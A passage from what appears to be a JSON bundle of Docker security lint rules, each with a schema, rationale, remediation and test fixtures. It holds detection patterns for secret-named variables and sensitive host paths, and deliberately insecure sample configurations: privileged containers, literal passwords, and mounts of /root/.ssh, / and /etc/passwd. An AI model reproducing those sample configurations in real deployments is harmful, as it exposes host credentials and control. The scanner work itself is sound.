[no-new-privileges:true]\\nservices:\\n  web:\\n    <<: *hardening\\n    image: nginx:1.27\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    security_opt:\\n      - no-new-privileges\\n  worker:\\n    image: ghcr.io/example/worker:1.4.2\\n    security_opt: [\\"no-new-privileges=true\\", \\"seccomp=./seccomp.json\\"]\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: node:22\\n    services:\\n      db:\\n        image: postgres:16\\n        options: --health-cmd pg_isready\\n    steps:\\n      - run: docker run --rm alpine:3.20 true\\n","expect":[]}],"source":"policies/docker/container-no-new-privileges.yaml"},{"id":"container-no-pids-limit","pack":"docker","title":"Compose service has no process (PIDs) limit","severity":"info","subject":"container","when":{"properties":{"origin":{"enum":["compose-service"]}}},"schema":{"required":["pids_limit"],"properties":{"pids_limit":{"type":"integer","minimum":1}}},"message":"{{name}} has no limit on the number of processes, so a fork bomb or a runaway worker pool in it can exhaust the host\'s process table. Set `pids_limit:` (or `deploy.resources.limits.pids`), e.g. `pids_limit: 200`.","rationale":"Process IDs are a host-wide resource. Without a limit, one container can create processes until the kernel refuses to start any more anywhere on the host, including the daemon\'s own. The CIS Docker Benchmark (5.29) asks that the PIDs cgroup limit be used. Informational by default.","remediation":"```yaml\\nservices:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    pids_limit: 200\\n```","references":[{"framework":"cis-docker","id":"1.6.0:5.29"},{"framework":"url","url":"https://docs.docker.com/reference/compose-file/services/#pids_limit"}],"params":{},"paramSchemas":{},"tests":[{"file":"compose.yaml","content":"services:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n  worker:\\n    image: ghcr.io/example/worker:1.4.2\\n    pids_limit: -1\\n","expect":[{"line":2,"column":3,"endLine":2,"endColumn":6},{"line":6,"column":5,"endLine":6,"endColumn":19}]},{"file":"compose.yaml","content":"services:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    pids_limit: 200\\n  worker:\\n    image: ghcr.io/example/worker:1.4.2\\n    deploy:\\n      resources:\\n        limits:\\n          pids: 100\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container: node:22\\n    steps:\\n      - run: docker run --rm alpine:3.20 true\\n","expect":[]}],"source":"policies/docker/container-no-pids-limit.yaml"},{"id":"container-port-all-interfaces","pack":"docker","title":"Published port listens on every host interface","severity":"low","subject":"container","when":{"properties":{"origin":{"enum":["compose-service"]}}},"schema":{"properties":{"ports":{"items":{"required":["host_ip"],"properties":{"host_ip":{"not":{"enum":{"$param":"anyAddress"}}}}}}}},"message":"{{name}} publishes a port on every interface of the host, so it is reachable from the network, and Docker\'s own firewall rules let it past host firewalls such as ufw. Bind it to the address that should reach it, e.g. `\\"127.0.0.1:8080:80\\"`.","rationale":"A published port without a host address is bound to `0.0.0.0` and `::`. Docker inserts its NAT rules ahead of the host firewall\'s own, so a database or admin interface meant for local use becomes reachable from the whole network, and from the internet on a server with a public address, even when `ufw` or `firewalld` says the port is closed. The CIS Docker Benchmark asks that container ports be bound to a specific host interface; the OWASP cheat sheet warns about the firewall bypass.","remediation":"Bind the port to the loopback address (or to the one interface that should serve it), and put a\\nreverse proxy in front of services that must be public:\\n\\n```yaml\\nservices:\\n  db:\\n    image: postgres:16\\n    ports:\\n      - \\"127.0.0.1:5432:5432\\"\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    ports:\\n      - target: 8080\\n        published: \\"8080\\"\\n        host_ip: 127.0.0.1\\n```","references":[{"framework":"cis-docker","id":"1.6.0:5.14"},{"framework":"owasp-docker","id":"RULE #5a"},{"framework":"url","url":"https://docs.docker.com/engine/network/port-publishing/"}],"params":{"anyAddress":["0.0.0.0","::","[::]"]},"paramSchemas":{"anyAddress":{"schema":{"type":"array","items":{"type":"string","minLength":1}},"description":"Host addresses that mean \\"every interface\\"; an absent host_ip means the same."}},"tests":[{"file":"compose.yaml","content":"services:\\n  db:\\n    image: postgres:16\\n    ports:\\n      - \\"5432:5432\\"\\n      - 127.0.0.1:5433:5432\\n      - \\"0.0.0.0:6432:6432\\"\\n      - \\"[::]:7432:7432/tcp\\"\\n      - \\"9187\\"\\n","expect":[{"line":5,"column":9,"endLine":5,"endColumn":20},{"line":7,"column":9},{"line":8,"column":9},{"line":9,"column":9}]},{"file":"compose.yaml","content":"x-ports: &ports\\n  ports:\\n    - target: 3000\\n      published: \\"3000\\"\\nservices:\\n  grafana:\\n    <<: *ports\\n    image: grafana/grafana:11.2.0\\n","expect":[{"line":3,"column":7,"endLine":3,"endColumn":19}]},{"file":"compose.yaml","content":"services:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    ports:\\n      - \\"127.0.0.1:8080:8080\\"\\n      - \\"[::1]:8080:8080\\"\\n      - target: 9090\\n        published: \\"9090\\"\\n        host_ip: 10.0.0.5\\n    expose: [\\"9100\\"]\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    services:\\n      db:\\n        image: postgres:16\\n        ports:\\n          - 5432:5432\\n        options: -p 6432:6432\\n    steps:\\n      - run: docker run -d -p 8080:80 nginx:1.27\\n","expect":[]}],"source":"policies/docker/container-port-all-interfaces.yaml"},{"id":"container-privileged-port","pack":"docker","title":"Compose service publishes a privileged host port (below 1024)","severity":"info","subject":"container","when":{"properties":{"origin":{"enum":["compose-service"]}}},"schema":{"properties":{"ports":{"items":{"properties":{"published":{"not":{"pattern":{"$param":"privilegedPort"}}}}}}}},"message":"{{name}} publishes host port {{value}}, one of the privileged ports below 1024 that the host normally reserves for its own system services. Publish a port above 1024 (e.g. `\\"8080:80\\"`) and put a reverse proxy or load balancer on the low port if one is needed.","rationale":"Ports below 1024 are privileged on Linux: only root may bind them, and clients trust that what answers there is a service the administrator started (SSH on 22, DNS on 53, HTTP on 80). Docker publishes them for any container regardless, so a container can take over a well-known port on the host. The CIS Docker Benchmark (5.8) asks that privileged ports not be mapped into containers. Informational by default: a reverse proxy on 80 and 443 is the usual, deliberate exception.","remediation":"Publish a high port and keep the low one for a reverse proxy you have chosen to expose:\\n\\n```yaml\\nservices:\\n  app:\\n    image: ghcr.io/example/app:1.4.2\\n    ports:\\n      - \\"127.0.0.1:8080:80\\"\\n```","references":[{"framework":"cis-docker","id":"1.6.0:5.8"},{"framework":"url","url":"https://docs.docker.com/engine/network/port-publishing/"}],"params":{"privilegedPort":"^([0-9]|[1-9][0-9]|[1-9][0-9][0-9]|10[01][0-9]|102[0-3])(-|$)"},"paramSchemas":{"privilegedPort":{"schema":{"type":"string","format":"regex","minLength":1},"description":"A published host port, or the start of a range, below 1024."}},"tests":[{"file":"compose.yaml","content":"services:\\n  web:\\n    image: nginx:1.27\\n    ports:\\n      - \\"80:80\\"\\n      - \\"127.0.0.1:8443:443\\"\\n      - target: 53\\n        published: \\"53\\"\\n        protocol: udp\\n","expect":[{"line":5,"column":9,"endLine":5,"endColumn":16},{"line":8,"column":9}]},{"file":"compose.yaml","content":"services:\\n  web:\\n    image: nginx:1.27\\n    ports:\\n      - \\"127.0.0.1:8080:80\\"\\n      - \\"8443:443\\"\\n      - \\"9000-9010:9000-9010\\"\\n      - \\"3000\\"\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    services:\\n      web:\\n        image: nginx:1.27\\n        ports:\\n          - 80:80\\n    steps:\\n      - run: docker run -d -p 443:443 nginx:1.27\\n","expect":[]}],"source":"policies/docker/container-privileged-port.yaml"},{"id":"container-privileged","pack":"docker","title":"Container runs privileged","severity":"critical","subject":"container","schema":{"properties":{"privileged":{"not":{"const":true}}}},"message":"{{name}} runs privileged: it gets every Linux capability and every host device, so whoever controls it controls the host. Remove `privileged: true` and add only the capabilities it needs with `cap_add`.","rationale":"A privileged container runs with all capabilities, with access to all host devices, and without the seccomp, AppArmor and SELinux confinement Docker applies by default. Anything that escapes into it (a vulnerable dependency, a malicious image, a pull request\'s code) can mount the host\'s disks, load kernel modules and take over the machine and every container on it.","remediation":"Remove the privileged flag and grant the one capability the workload actually needs, after\\ndropping the rest:\\n\\n```yaml\\nservices:\\n  app:\\n    cap_drop: [ALL]\\n    cap_add: [NET_BIND_SERVICE]\\n```\\n\\nIn a workflow\'s `options:` or a `docker run`, drop `--privileged` and use `--cap-drop ALL --cap-add \u2026`.","references":[{"framework":"cis-docker","id":"1.6.0:5.5"},{"framework":"owasp-docker","id":"RULE #3"},{"framework":"url","url":"https://docs.docker.com/engine/containers/run/#runtime-privilege-and-linux-capabilities"}],"params":{},"paramSchemas":{},"tests":[{"file":"compose.yaml","content":"services:\\n  web:\\n    image: nginx:1.27\\n    privileged: true\\n","expect":[{"line":4,"column":5,"endLine":4,"endColumn":21}]},{"file":"compose.yaml","content":"x-common: &common\\n  privileged: \\"true\\"\\nservices:\\n  web:\\n    <<: *common\\n    image: nginx:1.27\\n","expect":[{"line":2,"column":3}]},{"file":"compose.yaml","content":"services:\\n  web:\\n    image: nginx:1.27\\n    privileged: false\\n    cap_add: [NET_BIND_SERVICE]\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    services:\\n      db:\\n        image: postgres:16\\n        options: --privileged --health-cmd pg_isready\\n    steps:\\n      - run: echo ok\\n","expect":[{"line":8,"column":9}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: |\\n          echo building\\n          docker run --rm \\\\\\n            --privileged alpine:3.20 true\\n","expect":[{"line":8,"column":11}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: node:22\\n      options: --cpus 2\\n    steps:\\n      - run: docker run --rm alpine:3.20 true\\n","expect":[]}],"source":"policies/docker/container-privileged.yaml"},{"id":"container-restart-policy","pack":"docker","title":"Restart policy retries without a bound","severity":"info","subject":"container","when":{"properties":{"origin":{"enum":["compose-service"]}}},"schema":{"properties":{"restart":{"pattern":{"$param":"boundedRestart"}}}},"message":"{{name}} uses `restart: {{value}}`, which restarts it forever, so a crash loop (or an attacker who can crash it on demand) keeps the host busy restarting it without anyone noticing. Use `restart: on-failure:5` and alert on the failure instead.","rationale":"An unbounded restart policy hides a failing service behind endless restarts: each one costs CPU and I/O, may replay a harmful start-up step, and keeps a service that should have been looked at running in a broken state. The CIS Docker Benchmark (5.15) asks for the `on-failure` policy with a maximum of five retries. Informational by default, since `unless-stopped` is a common and deliberate choice for services that must survive reboots.","remediation":"```yaml\\nservices:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    restart: on-failure:5\\n```","references":[{"framework":"cis-docker","id":"1.6.0:5.15"},{"framework":"url","url":"https://docs.docker.com/engine/containers/start-containers-automatically/"}],"params":{"boundedRestart":"^(no|false|on-failure:[1-5])$"},"paramSchemas":{"boundedRestart":{"schema":{"type":"string","format":"regex","minLength":1},"description":"`no` (YAML 1.1 reads an unquoted `no` as false), or on-failure with at most five retries."}},"tests":[{"file":"compose.yaml","content":"services:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    restart: always\\n  worker:\\n    image: ghcr.io/example/worker:1.4.2\\n    restart: unless-stopped\\n  jobs:\\n    image: ghcr.io/example/jobs:1.4.2\\n    restart: on-failure\\n","expect":[{"line":4,"column":5,"endLine":4,"endColumn":20},{"line":7,"column":5},{"line":10,"column":5}]},{"file":"compose.yaml","content":"services:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    restart: on-failure:5\\n  migrate:\\n    image: ghcr.io/example/api:1.4.2\\n    restart: \\"no\\"\\n  web:\\n    image: nginx:1.27\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: docker run -d --restart always nginx:1.27\\n","expect":[]}],"source":"policies/docker/container-restart-policy.yaml"},{"id":"container-root-filesystem-writable","pack":"docker","title":"Container\'s root filesystem is writable","severity":"info","subject":"container","when":{"properties":{"origin":{"enum":["compose-service"]}}},"schema":{"required":["read_only"],"properties":{"read_only":{"const":true}}},"message":"{{name}} can write to its own root filesystem, so an attacker who gets in can drop tools, alter binaries or plant persistence in it. Set `read_only: true` and give the paths the service must write to a `tmpfs` or a volume.","rationale":"An immutable root filesystem turns many attacks from \\"download and run a tool\\" into nothing: the application\'s code and libraries cannot be replaced, and writable places are few, named and easy to review. It also makes the container\'s behaviour reproducible, since no state builds up in its writable layer. The CIS Docker Benchmark and the OWASP cheat sheet ask for a read-only root filesystem, with `tmpfs` mounts or volumes for the paths that must be writable. Informational by default, since most images need some work to run read-only.","remediation":"Make the root filesystem read-only and mount writable space only where the service writes:\\n\\n```yaml\\nservices:\\n  web:\\n    image: nginx:1.27\\n    read_only: true\\n    tmpfs:\\n      - /var/cache/nginx\\n      - /var/run\\n    volumes:\\n      - uploads:/srv/uploads\\nvolumes:\\n  uploads: {}\\n```","references":[{"framework":"cis-docker","id":"1.6.0:5.13"},{"framework":"owasp-docker","id":"RULE #8"},{"framework":"url","url":"https://docs.docker.com/reference/compose-file/services/#read_only"}],"params":{},"paramSchemas":{},"tests":[{"file":"compose.yaml","content":"services:\\n  web:\\n    image: nginx:1.27\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    read_only: false\\n","expect":[{"line":2,"column":3,"endLine":2,"endColumn":6},{"line":6,"column":5,"endLine":6,"endColumn":21}]},{"file":"compose.yaml","content":"x-hardening: &hardening\\n  read_only: true\\nservices:\\n  web:\\n    <<: *hardening\\n    image: nginx:1.27\\n    tmpfs: [/var/cache/nginx, /var/run]\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    read_only: \\"true\\"\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: node:22\\n    services:\\n      redis:\\n        image: redis:7.4\\n        options: --health-cmd \\"redis-cli ping\\"\\n    steps:\\n      - run: docker run --rm alpine:3.20 true\\n","expect":[]}],"source":"policies/docker/container-root-filesystem-writable.yaml"},{"id":"container-runs-as-root","pack":"docker","title":"Compose service runs as root","severity":"medium","subject":"container","when":{"properties":{"origin":{"enum":["compose-service"]}}},"schema":{"properties":{"user":{"not":{"pattern":{"$param":"rootUser"}}}},"if":{"required":["build"]},"then":{"required":["user"]}},"message":"{{name}} runs as root, so a flaw in it gives the attacker root inside the container, one kernel bug away from root on the host. Set `user:` to an unprivileged UID (e.g. `user: \\"10001:10001\\"`) or add a `USER` to the Dockerfile it is built from.","rationale":"Root inside a container is the same UID 0 as on the host unless user namespaces are remapped: it owns every file the container can see, including bind-mounted host paths, and it is what every container-escape exploit starts from. A service that needs no privileges should not have them. The CIS Docker Benchmark (4.1) and the OWASP cheat sheet (rule 2) ask that containers run as a non-root user. For a service built from a Dockerfile in this repository, the Dockerfile\'s final `USER` counts, and the finding points at both files.","remediation":"Run the service as an unprivileged user, in the Compose file or (better) in the Dockerfile so\\nthat every way of running the image gets it:\\n\\n```yaml\\nservices:\\n  api:\\n    build: ./api\\n    user: \\"10001:10001\\"\\n```\\n\\n```dockerfile\\nRUN useradd --system --uid 10001 --no-log-init app\\nUSER 10001\\n```","references":[{"framework":"cis-docker","id":"1.6.0:4.1"},{"framework":"owasp-docker","id":"RULE #2"},{"framework":"url","url":"https://docs.docker.com/engine/security/userns-remap/"}],"params":{"rootUser":"^(root|0)(:.*)?$"},"paramSchemas":{"rootUser":{"schema":{"type":"string","format":"regex","minLength":1},"description":"A user spec that means root: the name or UID, with or without a group."}},"tests":[{"file":"compose.yaml","content":"services:\\n  api:\\n    build: ./api\\n  admin:\\n    image: ghcr.io/example/admin:2.0.1\\n    user: root\\n  worker:\\n    image: ghcr.io/example/worker:1.4.2\\n    user: \\"0:0\\"\\n","expect":[{"line":2,"column":3,"endLine":2,"endColumn":6},{"line":6,"column":5,"endLine":6,"endColumn":15},{"line":9,"column":5}]},{"file":"compose.yaml","content":"services:\\n  api:\\n    build:\\n      context: ./api\\n    user: \\"10001:10001\\"\\n  web:\\n    image: nginx:1.27-alpine\\n    user: nginx\\n  cache:\\n    image: redis:7.4\\n    user: ${REDIS_UID:-999}\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: node:22\\n      options: --user root\\n    steps:\\n      - run: docker run --rm -u 0 alpine:3.20 id\\n","expect":[]},{"file":"compose.yaml","content":"services:\\n  api:\\n    build: ./api\\n","files":{"api/Dockerfile":"FROM node:22-slim\\nUSER node\\n"},"expect":[]}],"source":"policies/docker/container-runs-as-root.yaml"},{"id":"container-secret-in-environment","pack":"docker","title":"Secret written as a literal environment value","severity":"medium","subject":"container","when":{"properties":{"origin":{"enum":["compose-service","docker-cli"]}}},"schema":{"properties":{"environment":{"patternProperties":{"^(?:[A-Za-z0-9]+_)*(?:PASSWORD|PASSWD|PWORD|PASS|SECRET|TOKEN|APIKEY|KEY|AUTH|CREDENTIAL|CREDENTIALS|password|passwd|pword|pass|secret|token|apikey|key|auth|credential|credentials)(?:_[A-Za-z0-9_]*)?$(?<!(?:^|_)(?:PUBLIC|public|Public)(?:_[A-Za-z0-9_]*)?)(?<!_(?:FILE|PATH|DIR|URL|URI|HOST|PORT|USER|USERNAME|NAME|ID|ENABLED|TYPE|METHOD|PROVIDER|MODE|LENGTH|TTL|EXPIRY|file|path|dir|url|uri|host|port|user|username|name|id|enabled|type|method|provider|mode))":{"not":{"type":"string","pattern":{"$param":"literalValue"}}}}}}},"message":"{{name}} sets `{{key}}` to a value written in the file, so the secret is in the repository\'s history and visible to everyone who can read it, and to `docker inspect`. Pass it in instead: a Compose `secrets:` entry read from a file, or `${{{key}}}` from an untracked `.env` file.","rationale":"Anything written in a Compose file or a workflow script is stored in version control forever, copied into forks and CI logs, and readable by everyone with access to the repository. Values in `environment` are also shown by `docker inspect` and inherited by every child process. The CIS Docker Benchmark (4.10) and the OWASP cheat sheet (rule 12) ask that secrets be kept out of images and configuration files and handed over through a secrets mechanism; Compose `secrets:` mounts them as files under `/run/secrets/`. Names are matched like BuildKit\'s SecretsUsedInArgOrEnv check. A Compose value interpolated from a `.env` file committed beside the Compose file, or from a `${VAR:-default}`, is written in the repository too and counts as a literal; a variable left to the deployment\'s environment does not.","remediation":"Keep the value out of the file. With Compose secrets (most images accept a `_FILE` variant):\\n\\n```yaml\\nservices:\\n  db:\\n    image: postgres:16\\n    environment:\\n      POSTGRES_PASSWORD_FILE: /run/secrets/db_password\\n    secrets: [db_password]\\nsecrets:\\n  db_password:\\n    file: ./secrets/db_password.txt   # not committed\\n```\\n\\nOr interpolate it from the environment or an untracked `.env` file:\\n`POSTGRES_PASSWORD: ${POSTGRES_PASSWORD:?set it in .env}`. In a workflow, use\\n`-e TOKEN=\\"${{ secrets.TOKEN }}\\"` or pass the name only (`-e TOKEN`).","references":[{"framework":"cis-docker","id":"1.6.0:4.10"},{"framework":"owasp-docker","id":"RULE #12"},{"framework":"url","url":"https://docs.docker.com/compose/how-tos/use-secrets/"}],"params":{"literalValue":"^[^$]+$"},"paramSchemas":{"literalValue":{"schema":{"type":"string","format":"regex","minLength":1},"description":"A value that is not written in the file: a `${VAR}` / `$VAR` interpolation or a `${{ }}` expression. Everything else (except the empty string) counts as a literal."}},"tests":[{"file":"compose.yaml","content":"services:\\n  db:\\n    image: postgres:16\\n    environment:\\n      POSTGRES_USER: app\\n      POSTGRES_PASSWORD: s3cr3t-pa55\\n      POSTGRES_PASSWORD_FILE: /run/secrets/db\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    environment:\\n      - JWT_SECRET=change-me-please\\n      - API_KEY\\n      - STRIPE_PUBLIC_KEY=pk_live_123\\n","expect":[{"line":6,"column":7,"endLine":6,"endColumn":37},{"line":11,"column":9}]},{"file":"compose.yaml","content":"services:\\n  db:\\n    image: postgres:16\\n    environment:\\n      POSTGRES_PASSWORD:\\n      POSTGRES_PASSWORD_FILE: /run/secrets/db_password\\n      AUTH_URL: https://id.example.com\\n      MONKEY: banana\\n      GITHUB_TOKEN:\\n    secrets: [db_password]\\nsecrets:\\n  db_password:\\n    file: ./db_password.txt\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  e2e:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: |\\n          docker run -d -e ADMIN_PASSWORD=hunter2 ghcr.io/example/app:1.4.2\\n          docker run -d -e API_TOKEN=\\"${{ secrets.API_TOKEN }}\\" -e DB_PASSWORD ghcr.io/example/app:1.4.2\\n","expect":[{"line":7,"column":11}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  e2e:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: docker run -d -e \\"SESSION_SECRET=$SESSION_SECRET\\" ghcr.io/example/app:1.4.2\\n","expect":[]}],"source":"policies/docker/container-secret-in-environment.yaml"},{"id":"container-sensitive-host-mount","pack":"docker","title":"Sensitive host directory mounted into a container","severity":"high","subject":"container","schema":{"properties":{"volumes":{"items":{"not":{"required":["type","source"],"properties":{"type":{"const":"bind"},"source":{"pattern":{"$param":"sensitivePaths"},"not":{"pattern":{"$param":"dockerSocket"}}}},"not":{"required":["read_only","source"],"properties":{"read_only":{"const":true},"source":{"pattern":{"$param":"readOnlyAllowed"}}}}}}}}},"message":"{{name}} bind-mounts the host path `{{value.source}}`, which holds the host\'s system configuration, binaries, devices or credentials; a compromised container could read secrets from it or, when it is writable, take over the host. Mount only the specific files the service needs, read-only, or use a named volume.","rationale":"A bind mount hands the container the host\'s own files. System directories such as `/`, `/etc`, `/usr`, `/boot`, `/dev`, `/proc` and `/sys` let a process change the host\'s configuration, replace binaries that the host runs as root, reach devices or kernel settings, and read password hashes and keys; `/var/lib/docker` and `/run` hold every other container\'s data and the container runtime\'s sockets; `/root` and home directories hold SSH keys and cloud credentials. Read-only mode reduces the damage but still discloses secrets. The CIS Docker Benchmark asks that sensitive host directories not be mounted, especially read-write. `/etc/localtime` and `/etc/timezone` mounted read-only are allowed.","remediation":"Mount only the file or folder the service needs, read-only, from a path that belongs to the\\napplication, or use a named volume:\\n\\n```yaml\\nservices:\\n  proxy:\\n    image: nginx:1.27\\n    volumes:\\n      - ./nginx/nginx.conf:/etc/nginx/nginx.conf:ro   # not /etc:/etc\\n      - certs:/etc/nginx/certs:ro\\nvolumes:\\n  certs: {}\\n```\\n\\nMonitoring agents that really need `/proc` or `/sys` from the host should run on a dedicated\\nhost, with the mount read-only, and with a suppression that says why.","references":[{"framework":"cis-docker","id":"1.6.0:5.6"},{"framework":"url","url":"https://docs.docker.com/engine/storage/bind-mounts/"}],"params":{"sensitivePaths":"^(/|/(bin|boot|dev|etc|lib|lib32|lib64|libx32|proc|root|run|sbin|sys|usr|var/lib/docker|var/run)(/.*)?|/home(/[^/]+)?/?|~/?)$","dockerSocket":"^(/var)?/run/docker\\\\.sock/?$","readOnlyAllowed":"^/etc/(localtime|timezone)$"},"paramSchemas":{"sensitivePaths":{"schema":{"type":"string","format":"regex","minLength":1},"description":"A host path (as written) that is a system directory or lies below one. Each directory matches itself and its subpaths only, so `/etc/nginx` matches and `/etcd-data` does not. A whole home (`~`, `/home`, `/home/<user>`) matches, but not a project folder inside one."},"dockerSocket":{"schema":{"type":"string","format":"regex","minLength":1},"description":"The Docker socket, left out here: it has its own, critical rule (container-docker-socket)."},"readOnlyAllowed":{"schema":{"type":"string","format":"regex","minLength":1},"description":"Host files that are harmless to share read-only."}},"tests":[{"file":"compose.yaml","content":"services:\\n  backup:\\n    image: restic/restic:0.17.1\\n    volumes:\\n      - /etc:/host/etc:ro\\n      - /etcd-data:/data\\n      - ./config:/config\\n      - /var/run/docker.sock:/var/run/docker.sock\\n      - /etc/localtime:/etc/localtime:ro\\n      - /:/rootfs\\n","expect":[{"line":5,"column":9,"endLine":5,"endColumn":26},{"line":10,"column":9}]},{"file":"compose.yaml","content":"services:\\n  exporter:\\n    image: gcr.io/cadvisor/cadvisor:v0.49.1\\n    volumes:\\n      - type: bind\\n        source: /sys/fs/cgroup\\n        target: /sys/fs/cgroup\\n        read_only: true\\n      - type: volume\\n        source: data\\n        target: /data\\n      - type: bind\\n        source: /var/lib/docker/\\n        target: /var/lib/docker\\nvolumes:\\n  data: {}\\n","expect":[{"line":5,"column":9},{"line":12,"column":9}]},{"file":"compose.yaml","content":"x-host: &host\\n  volumes:\\n    - /root/.ssh:/root/.ssh\\nservices:\\n  deploy:\\n    <<: *host\\n    image: alpine/git:2.45.2\\n  dev:\\n    image: node:22\\n    volumes:\\n      - /home/alice/projects/site:/app\\n      - ~/.npmrc:/root/.npmrc:ro\\n      - /etc/localtime:/etc/localtime\\n","expect":[{"line":3,"column":7},{"line":13,"column":9}]},{"file":"compose.yaml","content":"services:\\n  web:\\n    image: nginx:1.27\\n    volumes:\\n      - ./nginx.conf:/etc/nginx/nginx.conf:ro\\n      - /srv/www:/usr/share/nginx/html:ro\\n      - /etcd-data:/data\\n      - /run/docker.sock:/var/run/docker.sock\\n      - /etc/timezone:/etc/timezone:ro\\n      - logs:/var/log/nginx\\nvolumes:\\n  logs: {}\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  scan:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: aquasec/trivy:0.56.2\\n      volumes:\\n        - /tmp/cache:/root/.cache\\n        - /:/host:ro\\n    services:\\n      agent:\\n        image: datadog/agent:7.57.0\\n        options: -v /proc/:/host/proc/:ro --mount type=bind,source=/sys/fs/cgroup,target=/host/sys/fs/cgroup\\n    steps:\\n      - run: trivy rootfs /host\\n","expect":[{"line":9,"column":11},{"line":13,"column":9},{"line":13,"column":9}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  scan:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: |\\n          docker run --rm -v \\"$PWD:/src\\" -v /etc/passwd:/etc/passwd:ro alpine:3.20 true\\n","expect":[{"line":7,"column":11}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  scan:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: node:22\\n      volumes:\\n        - /tmp/cache:/cache\\n      options: -v ${{ github.workspace }}:/src\\n    steps:\\n      - run: docker run --rm -v /srv/data:/data -v /run/docker.sock:/var/run/docker.sock alpine:3.20 true\\n","expect":[]}],"source":"policies/docker/container-sensitive-host-mount.yaml"},{"id":"container-sysctl-weakens-isolation","pack":"docker","title":"Container sets a kernel parameter that weakens network isolation","severity":"low","subject":"container","schema":{"properties":{"sysctls":{"patternProperties":{"^net\\\\.ipv4\\\\.ip_forward$":{"not":{"const":"1"}},"^net\\\\.ipv6\\\\.conf\\\\.[a-z0-9_.-]+\\\\.forwarding$":{"not":{"const":"1"}},"^net\\\\.ipv4\\\\.conf\\\\.[a-z0-9_.-]+\\\\.(route_localnet|accept_source_route|accept_redirects)$":{"not":{"const":"1"}},"^net\\\\.ipv6\\\\.conf\\\\.[a-z0-9_.-]+\\\\.(accept_source_route|accept_redirects)$":{"not":{"const":"1"}},"^net\\\\.ipv4\\\\.conf\\\\.[a-z0-9_.-]+\\\\.rp_filter$":{"not":{"const":"0"}},"^net\\\\.ipv4\\\\.ip_unprivileged_port_start$":{"not":{"const":"0"}}}}}},"message":"{{name}} sets the kernel parameter `{{key}}={{value}}`, which weakens the network isolation of its namespace (forwarding, routing to localhost, redirects or unprivileged low ports). Remove it unless the container is a router by design, and then run it on a dedicated network.","rationale":"Docker only lets containers set namespaced sysctls, but several of those change how far the container\'s traffic can reach: IP forwarding turns it into a router between networks, `route_localnet` lets packets addressed to 127.0.0.0/8 cross interfaces (the basis of CVE-2020-8558), accepting redirects and source routes lets others steer its traffic, switching off reverse-path filtering permits spoofed sources, and `ip_unprivileged_port_start=0` lets any user bind the ports below 1024. The OWASP cheat sheet (rule 8) asks to keep the container\'s runtime restricted to what it needs.","remediation":"Remove the sysctl. A VPN gateway or router that needs forwarding belongs on a dedicated\\nnetwork with only the containers it serves:\\n\\n```yaml\\nservices:\\n  app:\\n    image: ghcr.io/example/app:1.4.2\\n    sysctls:\\n      net.core.somaxconn: 1024   # harmless tuning stays\\n```","references":[{"framework":"owasp-docker","id":"RULE #8"},{"framework":"url","url":"https://docs.docker.com/reference/cli/docker/container/run/#sysctl"}],"params":{},"paramSchemas":{},"tests":[{"file":"compose.yaml","content":"services:\\n  vpn:\\n    image: qmcgaw/gluetun:v3.39\\n    sysctls:\\n      net.ipv4.ip_forward: 1\\n      net.ipv4.conf.all.route_localnet: 1\\n      net.core.somaxconn: 1024\\n  web:\\n    image: nginx:1.27\\n    sysctls:\\n      - net.ipv4.ip_unprivileged_port_start=0\\n","expect":[{"line":5,"column":7,"endLine":5,"endColumn":29},{"line":6,"column":7},{"line":10,"column":5}]},{"file":"compose.yaml","content":"services:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    sysctls:\\n      net.core.somaxconn: 1024\\n      net.ipv4.tcp_syncookies: 1\\n      net.ipv4.conf.all.rp_filter: 1\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    services:\\n      router:\\n        image: ghcr.io/example/router:1.0.0\\n        options: --sysctl net.ipv4.ip_forward=1\\n    steps:\\n      - run: |\\n          docker run --rm --sysctl net.ipv4.conf.all.rp_filter=0 alpine:3.20 